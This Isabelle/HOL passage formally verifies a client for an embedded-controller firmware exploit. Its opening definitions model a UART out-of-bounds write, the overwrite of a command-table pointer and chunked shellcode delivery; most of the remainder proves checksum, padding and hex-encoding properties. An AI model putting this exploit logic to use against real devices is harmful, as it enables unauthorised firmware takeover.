
definition is_unlocked :: "UcmdClientEmc \<Rightarrow> Result \<times> UcmdClientEmc" where
  "is_unlocked s = getserialno (nak s)"

definition lut :: string where
  "lut = ''0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ''"

definition write_oob :: "u8 list \<Rightarrow> UcmdClientEmc \<Rightarrow> UcmdClientEmc" where
  "write_oob val s =
     (let s1 = nak s;
          len = (160 * filler_multiplier (chip_consts s1) :: u32);
          output = map (\<lambda>i. lut ! (i mod (length lut))) [0..<unat len];
          output2 = [CHR 0x0C] @ map char_of_u8 val @ [CHR 0x00] @ [CHR 0x15];
          s2 = write_str_blocking output True s1;
          s3 = busy_wait_us (unat (pwn_delay_us (chip_consts s2))) s2;
          s4 = write_str_blocking output2 True s3;
          s5 = busy_wait_ms (unat (post_process_ms (chip_consts s4))) s4
      in uart_rx_clear s5)"

definition is_reserved_byte :: "u8 \<Rightarrow> bool" where
  "is_reserved_byte b = (b = 0x08 \<or> b = 0x0D \<or> b = 0x0A \<or> b = 0x15)"

text \<open>The first loop of \<open>overwrite_cmd_table_ptr\<close>; \<open>None\<close> is its \<open>return false\<close>.\<close>

function build_target :: "u32 \<Rightarrow> nat \<Rightarrow> u8 list \<Rightarrow> u8 list option" where
  "build_target write_val i target =
     (if i < 4 then
        (let b = (ucast (drop_bit (i * 8) write_val AND 0xff) :: u8) in
         if is_reserved_byte b then None
         else build_target write_val (i + 1) (target[i := b]))
      else Some target)"
  by pat_completeness auto
termination
  by (relation "measure (\<lambda>(w, i, t). 4 - i)") auto

declare build_target.simps [simp del]

text \<open>The second loop: one early write for each printable byte, from the top byte down.\<close>

function oob_loop :: "u8 list \<Rightarrow> nat \<Rightarrow> UcmdClientEmc \<Rightarrow> UcmdClientEmc" where
  "oob_loop target i s =
     (if i < length target then
        (let pos = length target - i - 1;
             b = target ! pos
         in if b \<ge> 0x20 \<and> b < 0x80 then
              (let to_send = fold (\<lambda>j t. t[j := 0]) [0..<pos + 1] target
               in oob_loop target (i + 1) (write_oob to_send s))
            else oob_loop target (i + 1) s)
      else s)"
  by pat_completeness auto
termination
  by (relation "measure (\<lambda>(t, i, s). length t - i)") auto

declare oob_loop.simps [simp del]

definition overwrite_cmd_table_ptr :: "UcmdClientEmc \<Rightarrow> bool \<times> UcmdClientEmc" where
  "overwrite_cmd_table_ptr s =
     (let write_val = ucmd_ua_buf_addr (fw_consts s) in
      case build_target write_val 0 [0, 0, 0, 0] of
        None \<Rightarrow> (False, s)
      | Some target \<Rightarrow> (True, write_oob target (oob_loop target 0 s)))"

definition exploit_setup :: "UcmdClientEmc \<Rightarrow> (Result \<times> UcmdClientEmc) option" where
  "exploit_setup s =
     (case resolve_constants s of
        (result, s1) \<Rightarrow>
          if \<not> is_success result then Some (result, s1)
          else
            (case craft_and_set_payload s1 of
               None \<Rightarrow> None
             | Some (result, s2) \<Rightarrow>
                 if \<not> is_success result then Some (result, s2)
                 else
                   (case overwrite_cmd_table_ptr s2 of
                      (False, s3) \<Rightarrow> Some (new_ng kFwConstsInvalid [], s3)
                    | (True, s3) \<Rightarrow> Some (new_success [], s3))))"

definition exploit_trigger :: "UcmdClientEmc \<Rightarrow> Result \<times> UcmdClientEmc" where
  "exploit_trigger s =
     (case version (nak s) of
        (result, s1) \<Rightarrow>
          if \<not> is_ng_status result kUcmdUnknownCmd then
            (new_ng kExploitVersionUnexpected (format result), s1)
          else is_unlocked (snd (cmd_send hax_cmd_name True s1)))"

definition autorun :: "UcmdClientEmc \<Rightarrow> (Result \<times> UcmdClientEmc) option" where
  "autorun s =
     (if is_reset s then Some (new_ng kEmcInReset [], s)
      else
        (case is_unlocked (uart_rx_clear s) of
           (result, s1) \<Rightarrow>
             if is_success result then Some (new_success [], s1)
             else
               (case exploit_setup s1 of
                  None \<Rightarrow> None
                | Some (result, s2) \<Rightarrow>
                    if is_ng result then Some (result, s2)
                    else
                      (case exploit_trigger s2 of
                         (result, s3) \<Rightarrow>
                           if is_success result then Some (new_success [], s3)
                           else Some (new_ng kExploitFailedEmcReset [], reset_reset s3)))))"

text \<open>
  The session as the program starts it (the member initialisers of \<open>UcmdClientEmc\<close>),
  for a given script and level of the reset line.
\<close>

definition emc_init :: "string option list \<Rightarrow> bool \<Rightarrow> UcmdClientEmc" where
  "emc_init script level =
     \<lparr>rx_script = script, reset_level = level, trace = [],
      fw_constants_map = fw_constants_map_init, chip_consts = salina_consts,
      fw_consts_valid = False, fw_consts = \<lparr>ucmd_ua_buf_addr = 0, shellcode = []\<rparr>,
      in_rom = False\<rparr>"

section \<open>Notions the properties are stated with\<close>

text \<open>The events of one call of \<open>write_oob\<close>, for the chip constants in force.\<close>

definition write_oob_events :: "ChipConsts \<Rightarrow> u8 list \<Rightarrow> event list" where
  "write_oob_events cc val =
     [UartWrite [CHR 0x15] True, BusyWaitMs 10,
      UartWrite (map (\<lambda>i. lut ! (i mod (length lut))) [0..<unat (160 * filler_multiplier cc)]) True,
      BusyWaitUs (unat (pwn_delay_us cc)),
      UartWrite ([CHR 0x0C] @ map char_of_u8 val @ [CHR 0x00] @ [CHR 0x15]) True,
      BusyWaitMs (unat (post_process_ms cc)),
      RxClear]"

text \<open>
  The values of the out-of-bounds writes a trace holds, in order: a write that begins
  with the cursor-advance byte \<open>0x0C\<close> is the second write of a \<open>write_oob\<close>, and the four
  bytes after it are the value.
\<close>

fun oob_values :: "event list \<Rightarrow> u8 list list" where
  "oob_values [] = []"
| "oob_values (UartWrite buf w # es) =
     (if buf \<noteq> [] \<and> hd buf = CHR 0x0C then map u8_of_char (take 4 (tl buf)) # oob_values es
      else oob_values es)"
| "oob_values (e # es) = oob_values es"

text \<open>The four bytes of an address, least significant first, as the first loop takes them.\<close>

definition addr_bytes :: "u32 \<Rightarrow> u8 list" where
  "addr_bytes w = map (\<lambda>i. ucast (drop_bit (i * 8) w AND 0xff)) [0, 1, 2, 3]"

definition is_printable :: "u8 \<Rightarrow> bool" where
  "is_printable b = (b \<ge> 0x20 \<and> b < 0x80)"

text \<open>The target with the elements 0 to \<open>pos\<close> zeroed.\<close>

definition zero_through :: "nat \<Rightarrow> u8 list \<Rightarrow> u8 list" where
  "zero_through pos target = replicate (pos + 1) 0 @ drop (pos + 1) target"

text \<open>The early writes: one for each printable byte, from the top byte down.\<close>

definition early_writes :: "u8 list \<Rightarrow> u8 list list" where
  "early_writes target =
     map (\<lambda>pos. zero_through pos target) (filter (\<lambda>pos. is_printable (target ! pos)) [3, 2, 1, 0])"

text \<open>
  Delivery as the spec words it: the chunks are sent in order, each tagged with its index,
  each acknowledged as successful, and the first failure aborts with
  \<open>SetPayloadPuareq2Failed\<close>.
\<close>

fun deliver_chunks :: "u8 list list \<Rightarrow> u32 \<Rightarrow> UcmdClientEmc \<Rightarrow> Result \<times> UcmdClientEmc" where
  "deliver_chunks [] idx s = (new_success [], s)"
| "deliver_chunks (c # cs) idx s =
     (case puareq2 idx c s of
        (False, s') \<Rightarrow> (new_ng kSetPayloadPuareq2Failed [], s')
      | (True, s') \<Rightarrow> deliver_chunks cs (idx + 1) s')"

text \<open>
  \<open>io_step s es s'\<close>: the state \<open>s'\<close> is \<open>s\<close> after some reads and after exactly the
  events \<open>es\<close>; no other field has changed.
\<close>

definition io_step :: "UcmdClientEmc \<Rightarrow> event list \<Rightarrow> UcmdClientEmc \<Rightarrow> bool" where
  "io_step s es s' = (s' = s\<lparr>rx_script := rx_script s', trace := trace s @ es\<rparr>)"

text \<open>A session whose constants are already resolved to the given ones.\<close>

definition emc_resolved :: "string option list \<Rightarrow> FwConstants \<Rightarrow> UcmdClientEmc" where
  "emc_resolved script fw = (emc_init script True)\<lparr>fw_consts_valid := True, fw_consts := fw\<rparr>"

text \<open>A byte vector cut into consecutive chunks of \<open>n\<close> bytes (the last may be shorter).\<close>

function chunks :: "nat \<Rightarrow> u8 list \<Rightarrow> u8 list list" where
  "chunks n xs = (if n = 0 \<or> xs = [] then [] else take n xs # chunks n (drop n xs))"
  by pat_completeness auto
termination
  by (relation "measure (\<lambda>(n, xs). length xs)") auto

declare chunks.simps [simp del]

text \<open>The UART writes of the delivery requests for the given chunks, from index \<open>idx\<close> on.\<close>

fun puareq2_writes :: "u32 \<Rightarrow> u8 list list \<Rightarrow> event list" where
  "puareq2_writes idx [] = []"
| "puareq2_writes idx (c # cs) =
     UartWrite (cmd_text (puareq2_cmdline idx c)) True # puareq2_writes (idx + 1) cs"

text \<open>A script in which each of the given command lines is echoed and answered with success.\<close>

definition ack_script :: "string list \<Rightarrow> string option list" where
  "ack_script cmds = concat (map (\<lambda>c. [Some c, Some ''OK 00000000'']) cmds)"

fun puareq2_cmdlines :: "u32 \<Rightarrow> u8 list list \<Rightarrow> string list" where
  "puareq2_cmdlines idx [] = []"
| "puareq2_cmdlines idx (c # cs) = puareq2_cmdline idx c # puareq2_cmdlines (idx + 1) cs"

text \<open>
  The four delivery requests for a payload of 200 bytes, as the spec words them: the
  request keyword, the index of the chunk, and the hex-encoded bytes of the 50-byte chunk
  at that index.
\<close>

definition delivery_requests :: "u8 list \<Rightarrow> string list" where
  "delivery_requests P =
     [''puareq2 0 '' @ buf2hex (take 50 P),
      ''puareq2 1 '' @ buf2hex (take 50 (drop 50 P)),
      ''puareq2 2 '' @ buf2hex (take 50 (drop 100 P)),
      ''puareq2 3 '' @ buf2hex (take 50 (drop 150 P))]"

text \<open>
  The reads that leave the request \<open>req\<close> unacknowledged: the echo times out, or the echo
  comes back and the reply times out, or the echo comes back and the reply is an \<open>OK\<close> or
  \<open>NG\<close> line other than success.
\<close>

fun unacknowledged :: "string \<Rightarrow> string option list \<Rightarrow> bool" where
  "unacknowledged req [None] = True"
| "unacknowledged req [Some e, None] = (e = req)"
| "unacknowledged req [Some e, Some l] =
     (e = req \<and> is_ok_or_ng (from_str l) \<and> \<not> is_success (from_str l))"
| "unacknowledged req ls = False"

section \<open>Checksum validation\<close>

lemma checksum_foldl:
  "foldl (\<lambda>csum b. csum + u8_of_char b) a s = a + of_nat (sum_list (map of_char s))"
  by (induction s arbitrary: a) (simp_all add: u8_of_char_def add.assoc)

lemma unat_checksum: "unat (checksum s) = sum_list (map of_char s) mod 256"
  by (simp add: checksum_def checksum_foldl unat_of_nat)

lemma find_last_of_None: "find_last_of s c = None \<longleftrightarrow> c \<notin> set s"
  by (induction s) (auto split: option.splits)

lemma find_last_of_Some:
  "find_last_of s c = Some i \<Longrightarrow> i < length s \<and> s ! i = c \<and> c \<notin> set (drop (Suc i) s)"
proof (induction s arbitrary: i)
  case Nil
  then show ?case by simp
next
  case (Cons x xs)
  then show ?case
    by (auto split: option.splits if_splits simp: find_last_of_None)
qed

lemma find_last_of_append:
  "c \<notin> set ys \<Longrightarrow> find_last_of (xs @ c # ys) c = Some (length xs)"
  by (induction xs) (auto simp: find_last_of_None split: option.splits)

lemma hex_digit_not_colon: "is_hex_digit h \<Longrightarrow> h \<noteq> CHR '':''"
  by (auto simp: is_hex_digit_def hex_digit_val_def Let_def)

lemma hex_digit_not_crlf: "is_hex_digit h \<Longrightarrow> \<not> is_crlf h"
  by (auto simp: is_hex_digit_def hex_digit_val_def Let_def is_crlf_def)

lemma hex_digit_val_lt: "hex_digit_val c = Some d \<Longrightarrow> d < 16"
  by (auto simp: hex_digit_val_def Let_def split: if_splits)

lemma hex_value2_lt: "is_hex_digit a \<Longrightarrow> is_hex_digit b \<Longrightarrow> hex_value [a, b] < 256"
proof -
  assume "is_hex_digit a" "is_hex_digit b"
  then obtain x y where "hex_digit_val a = Some x" "hex_digit_val b = Some y"
    by (auto simp: is_hex_digit_def)
  moreover from this have "x < 16" "y < 16" by (auto dest: hex_digit_val_lt)
  ultimately show ?thesis by (simp add: hex_value_def)
qed

lemma hex2buf_two:
  "hex2buf [a, b] = (if is_hex_digit a \<and> is_hex_digit b then Some [of_nat (hex_value [a, b])] else None)"
  by simp

lemma dropWhile_rev_all: "list_all P t \<Longrightarrow> dropWhile P (rev t @ ys) = dropWhile P ys"
  by (induction t arbitrary: ys rule: rev_induct) (simp_all)

lemma strip_append_crlf:
  "list_all is_crlf t \<Longrightarrow> \<not> is_crlf h \<Longrightarrow> strip_trailing_crlf (xs @ h # t) = xs @ [h]"
  by (simp add: strip_trailing_crlf_def dropWhile_rev_all)

lemma strip_decomp:
  "\<exists>t. l = strip_trailing_crlf l @ t \<and> list_all is_crlf t"
proof -
  have "rev l = takeWhile is_crlf (rev l) @ dropWhile is_crlf (rev l)" by simp
  then have "l = rev (dropWhile is_crlf (rev l)) @ rev (takeWhile is_crlf (rev l))"
    by (metis rev_append rev_rev_ident)
  moreover have "list_all is_crlf (rev (takeWhile is_crlf (rev l)))"
    by (simp add: list_all_iff) (meson set_takeWhileD)
  ultimately show ?thesis unfolding strip_trailing_crlf_def by blast
qed


lemma drop_last2: "i + 2 = length s \<Longrightarrow> drop i s = [s ! i, s ! (i + 1)]"
  using Cons_nth_drop_Suc [of i s] Cons_nth_drop_Suc [of "Suc i" s] by simp

lemma list3_decomp:
  "i + 3 = length s \<Longrightarrow> s = take i s @ [s ! i, s ! (i + 1), s ! (i + 2)]"
proof -
  assume a: "i + 3 = length s"
  then have "drop i s = [s ! i, s ! (i + 1), s ! (i + 2)]"
    using Cons_nth_drop_Suc [of i s] drop_last2 [of "Suc i" s] by simp
  then show ?thesis by (metis append_take_drop_id)
qed

lemma validate_line_accepts:
  assumes "is_hex_digit h1" "is_hex_digit h2" "list_all is_crlf t"
    and "hex_value [h1, h2] = sum_list (map of_char body) mod 256"
  shows "validate_line (body @ [CHR '':'', h1, h2] @ t) = Some (True, body)"
proof -
  let ?l = "body @ [CHR '':'', h1, h2] @ t"
  have s: "strip_trailing_crlf ?l = body @ [CHR '':'', h1, h2]"
    using strip_append_crlf [of t h2 "body @ [CHR '':'', h1]"] assms(2,3)
    by (simp add: hex_digit_not_crlf)
  have f: "find_last_of (body @ [CHR '':'', h1, h2]) (CHR '':'') = Some (length body)"
    using find_last_of_append [of "CHR '':''" "[h1, h2]" body] assms(1,2)
    by (auto dest: hex_digit_not_colon)
  have c: "(of_nat (hex_value [h1, h2]) :: u8) = checksum body"
    by (simp add: assms(4) word_eq_iff_unsigned [where ?'a = nat] unat_checksum unat_of_nat)
  show ?thesis
    unfolding validate_line_def Let_def s f using assms(1,2) c by simp
qed

lemma validate_line_TrueD:
  assumes "validate_line l = Some (True, l')"
  shows "\<exists>h1 h2 t. l = l' @ [CHR '':'', h1, h2] @ t \<and> list_all is_crlf t \<and>
     is_hex_digit h1 \<and> is_hex_digit h2 \<and>
     hex_value [h1, h2] = sum_list (map of_char l') mod 256"
proof -
  let ?s = "strip_trailing_crlf l"
  from assms obtain i csum where
    i: "find_last_of ?s (CHR '':'') = Some i" and len: "i + 3 = length ?s"
    and hb: "hex2buf (drop (i + 1) ?s) = Some csum"
    by (auto simp: validate_line_def Let_def split: if_splits option.splits)
  from len have d: "?s = take i ?s @ [?s ! i, ?s ! (i + 1), ?s ! (i + 2)]"
    by (rule list3_decomp)
  from len have dr: "drop (i + 1) ?s = [?s ! (i + 1), ?s ! (i + 2)]"
    using drop_last2 [of "i + 1" ?s] by simp
  from hb dr have hx: "is_hex_digit (?s ! (i + 1))" "is_hex_digit (?s ! (i + 2))"
    and cs: "csum = [of_nat (hex_value [?s ! (i + 1), ?s ! (i + 2)])]"
    by (auto split: if_splits)
  from assms i len hb cs have l': "l' = take i ?s"
    and eq: "(of_nat (hex_value [?s ! (i + 1), ?s ! (i + 2)]) :: u8) = checksum (take i ?s)"
    by (auto simp: validate_line_def Let_def split: if_splits)
  from eq have "unat (of_nat (hex_value [?s ! (i + 1), ?s ! (i + 2)]) :: u8) = unat (checksum (take i ?s))"
    by simp
  then have v: "hex_value [?s ! (i + 1), ?s ! (i + 2)] = sum_list (map of_char l') mod 256"
    using hex_value2_lt [OF hx] by (simp add: unat_of_nat unat_checksum l')
  from find_last_of_Some [OF i] have colon: "?s ! i = CHR '':''" by simp
  obtain t where t: "l = ?s @ t" "list_all is_crlf t"
    using strip_decomp by blast
  have "l = l' @ [CHR '':'', ?s ! (i + 1), ?s ! (i + 2)] @ t"
    using t(1) d colon l' by (metis append.assoc)
  with t(2) hx v show ?thesis by blast
qed

lemma validate_line_total: "validate_line l \<noteq> None"
proof -
  have "hex2buf (drop (i + 1) s) \<noteq> Some []" if "i + 3 = length s" for i and s :: string
  proof -
    from that have "drop (i + 1) s = [s ! (i + 1), s ! (i + 2)]"
      using drop_last2 [of "i + 1" s] by simp
    then show ?thesis by (simp split: if_splits)
  qed
  then show ?thesis
    by (auto simp: validate_line_def Let_def split: option.splits list.splits)
qed

text \<open>
  Claim C4. \<open>validate_line\<close> returns for every line (it never reaches the undefined
  read). It returns true exactly when the line is a body, a colon, two hex digits whose
  value is the sum of the body's bytes modulo 256, and then nothing but CR and LF
  characters; in that case the line it leaves is exactly the body. So an empty line, a line
  without the trailing colon and two hex digits, and a line whose checksum differs are all
  rejected.
\<close>

theorem validate_line_checksum:
  "\<exists>b l'. validate_line l = Some (b, l') \<and>
     (b \<longleftrightarrow>
        (\<exists>body h1 h2 t. l = body @ [CHR '':'', h1, h2] @ t \<and> list_all is_crlf t \<and>
           is_hex_digit h1 \<and> is_hex_digit h2 \<and>
           hex_value [h1, h2] = sum_list (map of_char body) mod 256)) \<and>
     (b \<longrightarrow> (\<exists>h1 h2 t. l = l' @ [CHR '':'', h1, h2] @ t \<and> list_all is_crlf t))"
proof -
  obtain b l' where r: "validate_line l = Some (b, l')"
    using validate_line_total [of l] by (cases "validate_line l") auto
  show ?thesis
  proof (cases b)
    case True
    with r have "validate_line l = Some (True, l')" by simp
    from validate_line_TrueD [OF this] obtain h1 h2 t where
      "l = l' @ [CHR '':'', h1, h2] @ t" "list_all is_crlf t" "is_hex_digit h1" "is_hex_digit h2"
      "hex_value [h1, h2] = sum_list (map of_char l') mod 256" by blast
    then have "(\<exists>body h1 h2 t. l = body @ [CHR '':'', h1, h2] @ t \<and> list_all is_crlf t \<and>
           is_hex_digit h1 \<and> is_hex_digit h2 \<and>
           hex_value [h1, h2] = sum_list (map of_char body) mod 256)"
      and "(\<exists>h1 h2 t. l = l' @ [CHR '':'', h1, h2] @ t \<and> list_all is_crlf t)"
      by blast+
    with r True show ?thesis by auto
  next
    case False
    have "\<not> (\<exists>body h1 h2 t. l = body @ [CHR '':'', h1, h2] @ t \<and> list_all is_crlf t \<and>
           is_hex_digit h1 \<and> is_hex_digit h2 \<and>
           hex_value [h1, h2] = sum_list (map of_char body) mod 256)"
    proof
      assume "\<exists>body h1 h2 t. l = body @ [CHR '':'', h1, h2] @ t \<and> list_all is_crlf t \<and>
           is_hex_digit h1 \<and> is_hex_digit h2 \<and>
           hex_value [h1, h2] = sum_list (map of_char body) mod 256"
      then obtain body h1 h2 t where "l = body @ [CHR '':'', h1, h2] @ t" "list_all is_crlf t"
           "is_hex_digit h1" "is_hex_digit h2"
           "hex_value [h1, h2] = sum_list (map of_char body) mod 256" by blast
      then have "validate_line l = Some (True, body)"
        using validate_line_accepts by blast
      with r False show False by simp
    qed
    with r False show ?thesis by blast
  qed
qed

theorem validate_line_checksum_witness:
  "validate_line ''OK 00000000:3A'' = Some (True, ''OK 00000000'') \<and>
   validate_line ''OK 00000000:3B'' = Some (False, ''OK 00000000:3B'')"
  using validate_line_checksum [of "''OK 00000000:3A''"]
  by (simp add: validate_line_def strip_trailing_crlf_def is_crlf_def checksum_def u8_of_char_def
      is_hex_digit_def hex_digit_val_def hex_value_def)

section \<open>Padding of the payload\<close>

lemma length_le32: "length (le32 w) = 4"
  by (simp add: le32_def)

lemma length_payload_prefix: "length (payload_prefix a) = 28"
  by (simp add: payload_prefix_def length_le32 hax_cmd_name_def)

lemma align_up_nonzero:
  "align \<noteq> 0 \<Longrightarrow> align_up x align = Some (x + (align - x mod align))"
  by (simp add: align_up_def)

lemma align_up_not_identity:
  assumes "align \<noteq> 0"
  shows "align_up x align \<noteq> Some x"
proof -
  from assms have "0 < align" by (simp add: word_neq_0_conv)
  then have "x mod align < align" by (rule word_mod_less_divisor)
  then have "align - x mod align \<noteq> 0" by simp
  then show ?thesis using assms by (simp add: align_up_def)
qed

lemma align_up_50_aligned: "x mod 50 = 0 \<Longrightarrow> align_up x 50 = Some (x + 50)"
  by (simp add: align_up_def)

lemma craft_aligned:
  fixes s :: UcmdClientEmc
  defines "n \<equiv> length (shellcode (fw_consts s))"
  assumes m: "(28 + n) mod 50 = 0" and le: "28 + n \<le> 350"
  shows "craft_and_set_payload s =
     Some (set_payload (payload_prefix (ucmd_ua_buf_addr (fw_consts s)) @
        shellcode (fw_consts s) @ replicate 50 0) s)"
proof -
  let ?len = "(of_nat 28 + of_nat n :: size_t)"
  have u: "unat ?len = 28 + n"
    using le by (simp add: unat_word_ariths unat_of_nat)
  have "\<not> ?len > payload_max_len"
    using le u by (simp add: word_less_nat_alt payload_max_len_def)
  moreover have "unat (?len mod 50) = 0"
    using m u by (simp add: unat_mod del: of_nat_add of_nat_numeral)
  then have "?len mod 50 = 0" by (simp add: unat_eq_0 del: of_nat_add of_nat_numeral)
  then have "align_up ?len 50 = Some (?len + 50)" by (rule align_up_50_aligned)
  moreover have "unat (?len + 50) = 78 + n"
    using le u by (simp add: unat_word_ariths del: of_nat_add of_nat_numeral)
  ultimately show ?thesis
    unfolding craft_and_set_payload_def Let_def n_def [symmetric] length_payload_prefix
    by (simp del: of_nat_add of_nat_numeral)
qed

text \<open>
  Claim C9. For every alignment other than zero, \<open>align_up x align\<close> is
  \<open>x + (align - x mod align)\<close> and is never \<open>x\<close> itself; a length that is already a
  multiple of 50 comes back 50 larger; and a payload (28 bytes of prefix and the shellcode)
  whose length is a multiple of 50 within the cap is delivered with 50 more bytes, all zero.
\<close>

theorem align_up_adds_full_chunk:
  "(align \<noteq> 0 \<longrightarrow>
      align_up x align = Some (x + (align - x mod align)) \<and> align_up x align \<noteq> Some x) \<and>
   (y mod 50 = 0 \<longrightarrow> align_up y 50 = Some (y + 50)) \<and>
   ((28 + length (shellcode (fw_consts s))) mod 50 = 0 \<and>
    28 + length (shellcode (fw_consts s)) \<le> 350 \<longrightarrow>
      craft_and_set_payload s =
        Some (set_payload (payload_prefix (ucmd_ua_buf_addr (fw_consts s)) @
           shellcode (fw_consts s) @ replicate 50 0) s))"
proof (intro conjI impI)
  assume "align \<noteq> 0"
  then show "align_up x align = Some (x + (align - x mod align))"
    by (rule align_up_nonzero)
next
  assume "align \<noteq> 0"
  then show "align_up x align \<noteq> Some x"
    by (rule align_up_not_identity)
next
  assume "y mod 50 = 0"
  then show "align_up y 50 = Some (y + 50)"
    by (rule align_up_50_aligned)
next
  assume "(28 + length (shellcode (fw_consts s))) mod 50 = 0 \<and>
    28 + length (shellcode (fw_consts s)) \<le> 350"
  then show "craft_and_set_payload s =
        Some (set_payload (payload_prefix (ucmd_ua_buf_addr (fw_consts s)) @
           shellcode (fw_consts s) @ replicate 50 0) s)"
    using craft_aligned [of s] by simp
qed

theorem align_up_adds_full_chunk_witness:
  "align_up 200 50 = Some 250 \<and> align_up 200 50 \<noteq> Some 200 \<and>
   craft_and_set_payload ((emc_init [] True)\<lparr>fw_consts :=
        \<lparr>ucmd_ua_buf_addr = 0x1762e8, shellcode = replicate 22 0xbd\<rparr>\<rparr>) =
     Some (set_payload (payload_prefix 0x1762e8 @ replicate 22 0xbd @ replicate 50 0)
       ((emc_init [] True)\<lparr>fw_consts :=
        \<lparr>ucmd_ua_buf_addr = 0x1762e8, shellcode = replicate 22 0xbd\<rparr>\<rparr>))"
  using align_up_adds_full_chunk [of 50 200 200 "(emc_init [] True)\<lparr>fw_consts :=
        \<lparr>ucmd_ua_buf_addr = 0x1762e8, shellcode = replicate 22 0xbd\<rparr>\<rparr>"]
  by simp

section \<open>Hexadecimal round trip\<close>

lemma hex_min_digits: "d \<in> set (hex_min n) \<Longrightarrow> d < 16"
proof (induction n rule: hex_min.induct)
  case (1 n)
  then show ?case
    by (subst (asm) (2) hex_min.simps) (auto split: if_splits)
qed

lemma hex_min_value: "foldl (\<lambda>a d. a * 16 + d) 0 (hex_min n) = n"
proof (induction n rule: hex_min.induct)
  case (1 n)
  show ?case
  proof (cases "n < 16")
    case True
    then show ?thesis by (subst hex_min.simps) simp
  next
    case False
    with 1 show ?thesis by (subst hex_min.simps) simp
  qed
qed

lemma hex_min_length: "0 < k \<Longrightarrow> n < 16 ^ k \<Longrightarrow> length (hex_min n) \<le> k"
proof (induction n arbitrary: k rule: hex_min.induct)
  case (1 n)
  show ?case
  proof (cases "n < 16")
    case True
    with 1(2) show ?thesis by (subst hex_min.simps) simp
  next
    case False
    with 1(3) have k: "1 < k"
      by (cases "k = 1") (use 1(2) in auto)
    then obtain j where j: "k = Suc j" "0 < j" by (cases k) auto
    with 1(3) have "n div 16 < 16 ^ j"
      by (simp add: less_mult_imp_div_less mult.commute)
    with 1(1) [OF False j(2)] have "length (hex_min (n div 16)) \<le> j" by simp
    with False j show ?thesis by (subst hex_min.simps) simp
  qed
qed

lemma hex_min_nonempty: "hex_min n \<noteq> []"
  by (subst hex_min.simps) simp

lemma hex_digit_val_upper: "d < 16 \<Longrightarrow> hex_digit_val (upper_digit d) = Some d"
proof -
  assume "d < 16"
  then have "d = 0 \<or> d = 1 \<or> d = 2 \<or> d = 3 \<or> d = 4 \<or> d = 5 \<or> d = 6 \<or> d = 7 \<or>
      d = 8 \<or> d = 9 \<or> d = 10 \<or> d = 11 \<or> d = 12 \<or> d = 13 \<or> d = 14 \<or> d = 15"
    by arith
  then show ?thesis
    by (elim disjE) (simp_all add: upper_digit_def hex_digit_val_def)
qed

lemma hex_value_snoc: "hex_value (ds @ [c]) = hex_value ds * 16 + the (hex_digit_val c)"
  by (simp add: hex_value_def)

lemma hex_value_upper:
  "(\<And>d. d \<in> set ds \<Longrightarrow> d < 16) \<Longrightarrow>
   hex_value (map upper_digit ds) = foldl (\<lambda>a d. a * 16 + d) 0 ds"
  by (induction ds rule: rev_induct) (simp_all add: hex_value_snoc hex_digit_val_upper, simp add: hex_value_def)

lemma hex_value_zeros: "hex_value (replicate z (CHR ''0'') @ ds) = hex_value ds"
proof -
  have "foldl (\<lambda>acc c. acc * 16 + the (hex_digit_val c)) 0 (replicate z (CHR ''0'')) = 0"
    by (induction z) (simp_all add: hex_digit_val_def)
  then show ?thesis by (simp add: hex_value_def)
qed

lemma format_0X_value: "hex_value (format_0X w n) = n"
  by (simp add: format_0X_def Let_def hex_value_zeros hex_value_upper hex_min_digits hex_min_value)

lemma format_0X_hex: "list_all is_hex_digit (format_0X w n)"
proof -
  have "is_hex_digit (CHR ''0'')" by (simp add: is_hex_digit_def hex_digit_val_def)
  moreover have "is_hex_digit (upper_digit d)" if "d \<in> set (hex_min n)" for d
    using hex_digit_val_upper [OF hex_min_digits [OF that]] by (simp add: is_hex_digit_def)
  ultimately show ?thesis
    by (auto simp: format_0X_def Let_def list_all_iff)
qed

lemma format_0X_length: "0 < w \<Longrightarrow> n < 16 ^ w \<Longrightarrow> length (format_0X w n) = w"
  using hex_min_length [of w n] by (simp add: format_0X_def Let_def)

lemma format_08X_u32:
  fixes st :: u32
  shows "length (format_0X 8 (unat st)) = 8"
    and "list_all is_hex_digit (format_0X 8 (unat st))"
    and "(of_nat (hex_value (format_0X 8 (unat st))) :: u32) = st"
proof -
  have "unat st < 2 ^ 32" using unsigned_less [of st] by simp
  then have "unat st < 16 ^ 8" by simp
  then show "length (format_0X 8 (unat st)) = 8" by (simp add: format_0X_length)
  show "list_all is_hex_digit (format_0X 8 (unat st))" by (rule format_0X_hex)
  show "(of_nat (hex_value (format_0X 8 (unat st))) :: u32) = st"
    by (simp add: format_0X_value)
qed

section \<open>Classification of response lines\<close>

lemma starts_with_append: "starts_with (p @ rest) p"
  by (simp add: starts_with_def)

lemma starts_withD: "starts_with str p \<Longrightarrow> str = p @ drop (length p) str"
  by (metis append_take_drop_id starts_with_def)

lemma from_str_comment:
  "p \<noteq> [] \<Longrightarrow>
   from_str (''# '' @ p) = \<lparr>rtype = kComment, rstatus = kInvalidStatus, rresponse = p\<rparr>"
  by (simp add: from_str_def starts_with_def)

lemma from_str_info:
  "p \<noteq> [] \<Longrightarrow>
   from_str (''$$ '' @ p) = \<lparr>rtype = kInfo, rstatus = kInvalidStatus, rresponse = p\<rparr>"
  by (simp add: from_str_def starts_with_def)

lemma int_from_hex_u32_at:
  "length t = 3 \<Longrightarrow> length h = 8 \<Longrightarrow> list_all is_hex_digit h \<Longrightarrow>
   int_from_hex_u32 (t @ h @ rest) 3 = Some (of_nat (hex_value h))"
  by (simp add: int_from_hex_u32_def)

lemma from_str_status_only:
  assumes "t = ''OK '' \<or> t = ''NG ''" "length h = 8" "list_all is_hex_digit h"
  shows "from_str (t @ h) =
     \<lparr>rtype = (if t = ''OK '' then kOk else kNg), rstatus = of_nat (hex_value h), rresponse = []\<rparr>"
proof -
  have "int_from_hex_u32 (t @ h) 3 = Some (of_nat (hex_value h))"
    using int_from_hex_u32_at [of t h "[]"] assms by auto
  then show ?thesis
    using assms(1,2) by (auto simp: from_str_def starts_with_def)
qed

lemma from_str_status_payload:
  assumes "t = ''OK '' \<or> t = ''NG ''" "length h = 8" "list_all is_hex_digit h"
  shows "from_str (t @ h @ '' '' @ p) =
     \<lparr>rtype = (if t = ''OK '' then kOk else kNg), rstatus = of_nat (hex_value h), rresponse = p\<rparr>"
proof -
  have "int_from_hex_u32 (t @ h @ '' '' @ p) 3 = Some (of_nat (hex_value h))"
    using int_from_hex_u32_at [of t h "'' '' @ p"] assms by auto
  moreover have "(t @ h @ '' '' @ p) ! 11 = CHR '' ''"
